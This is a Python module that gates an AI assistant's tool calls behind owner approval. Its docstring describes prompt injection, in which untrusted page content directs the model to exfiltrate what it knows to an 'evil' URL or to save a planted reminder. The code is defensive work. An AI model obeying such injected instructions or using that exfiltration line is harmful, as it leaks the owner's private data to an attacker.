"""Which calls may run, which wait for the owner: enforced here, not in the prompt.

The owner's `tool_permissions` go over each tool's own risk. On top of both, the rule against
prompt injection: once a turn has read untrusted content (a `reads_untrusted` tool ran), the
model's next choices may be whoever wrote that content's. A page can say "fetch
https://evil/?d=<what you know>" or "save a reminder that ...", and only tools the owner thinks
of as safe are needed for it. So for the rest of that turn every `sends_or_persists` tool waits
for the owner's approval, whatever its risk and even when `tool_permissions` says `allow`.
`deny` still denies: denied tools are not offered, and a call of one finds no tool.

A turn whose client cannot answer an approval (the OpenAI-compatible API: `approvals=False`)
is offered only the tools that would run without one, and a call that would still need one
(after untrusted content) is refused instead of paused on.
"""

from __future__ import annotations

from services.worker.tools.registry import Tool
from shared.app_settings import AppSettings

RISKY = "a risky tool"
ASKED_BY_OWNER = "tool_permissions says ask"
NO_APPROVALS = (
    "This call needs the owner's approval ({reason}), which cannot be given to this client, "
    "so it was not run."
)


def offered(
    tools: dict[str, Tool], owner_settings: AppSettings, *, approvals: bool = True
) -> dict[str, Tool]:
    """The tools the model may see: `deny` ones are not offered at all; without `approvals`,
    neither are those that would need the owner's approval."""
    denied = {name for name, policy in owner_settings.tool_permissions.items() if policy == "deny"}
    return {
        name: tool
        for name, tool in tools.items()
        if name not in denied and (approvals or approval_reason(tool, owner_settings, None) is None)
    }


def after_untrusted(source: str) -> str:
    return f"after reading untrusted content from {source}"


def approval_reason(
    tool: Tool, owner_settings: AppSettings, untrusted_from: str | None
) -> str | None:
    """Why a call of `tool` must wait for the owner's approval; None when it may run now.
    `untrusted_from` names the tool whose untrusted output this turn has read, if any."""
    if untrusted_from is not None and tool.sends_or_persists:
        return after_untrusted(untrusted_from)
    policy = owner_settings.tool_permissions.get(tool.name)
    if policy is not None:
        return ASKED_BY_OWNER if policy == "ask" else None
    return RISKY if tool.risk == "ask" else None


def may_run_concurrently(
    tools: list[Tool], owner_settings: AppSettings, untrusted_from: str | None
) -> bool:
    """Calls of one assistant message run at once only when every one is safe and allowed."""
    return all(
        t.risk == "safe" and approval_reason(t, owner_settings, untrusted_from) is None
        for t in tools
    )
